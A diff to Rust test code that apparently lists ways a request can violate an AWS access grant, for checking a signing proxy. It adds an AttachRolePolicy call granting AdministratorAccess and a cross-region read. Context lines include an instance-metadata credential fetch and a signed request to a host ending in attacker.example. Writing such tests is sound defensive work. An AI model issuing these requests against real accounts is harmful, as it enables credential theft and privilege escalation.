@@ -24,6 +24,10 @@ enum How {
     OtherService,
     /// A mutation by an action that the grant leaves out.
     UndeclaredAction,
+    /// An administrator's policy for a role, in a service that is granted for reads.
+    AdminRole,
+    /// A granted read, in a region that is not the platform's.
+    OtherRegion,
     /// A granted action, sent to a host that is not AWS's.
     SignedElsewhere,
     /// The granted host, with a header that is the host's.
@@ -70,6 +74,8 @@ impl How {
             Self::OtherScheme => "other-scheme",
             Self::OtherService => "other-service",
             Self::UndeclaredAction => "undeclared-action",
+            Self::AdminRole => "admin-role",
+            Self::OtherRegion => "other-region",
             Self::SignedElsewhere => "signed-elsewhere",
             Self::OwnAuthorization => "own-authorization",
             Self::OtherKind => "other-kind",
@@ -77,13 +83,18 @@ impl How {
     }
 
     fn request(self, place: &Place<'_>) -> Request {
-        let ec2 = |host: &str, action: &str| Request {
-            body: format!("Action={action}&Version=2016-11-15&VpcId=vpc-0123456789abcdef0").into_bytes(),
+        let form = |(service, id, region): (&str, &str, &str), host: &str, body: String| Request {
+            body: body.into_bytes(),
             ..Request::new("POST", format!("https://{host}/"))
-                .scheme(Scheme::aws_sigv4("ec2", "us-west-2"))
-                .service_id("EC2")
+                .scheme(Scheme::aws_sigv4(service, region))
+                .service_id(id)
                 .header("content-type", "application/x-www-form-urlencoded")
         };
+        let ec2_in = |region: &str, host: &str, action: &str| {
+            let body = format!("Action={action}&Version=2016-11-15&VpcId=vpc-0123456789abcdef0");
+            form(("ec2", "EC2", region), host, body)
+        };
+        let ec2 = |host: &str, action: &str| ec2_in("us-west-2", host, action);
         match self {
             Self::OtherHost | Self::OtherKind => Request::get("https://not-granted.example.com/"),
             Self::Metadata => Request::get("http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
@@ -93,6 +104,12 @@ impl How {
                 .scheme(Scheme::aws_sigv4("s3", "us-west-2"))
                 .service_id("S3"),
             Self::UndeclaredAction => ec2("ec2.us-west-2.amazonaws.com", "DeleteVpc"),
+            Self::AdminRole => {
+                let policy = "arn:aws:iam::aws:policy/AdministratorAccess";
+                let body = format!("Action=AttachRolePolicy&Version=2010-05-08&RoleName=mine&PolicyArn={policy}");
+                form(("iam", "IAM", "us-east-1"), "iam.amazonaws.com", body)
+            }
+            Self::OtherRegion => ec2_in("eu-central-1", "ec2.eu-central-1.amazonaws.com", "DescribeVpcs"),
             Self::SignedElsewhere => ec2("ec2.us-west-2.amazonaws.com.attacker.example", "DescribeVpcs"),
             Self::OwnAuthorization => place
                 .server
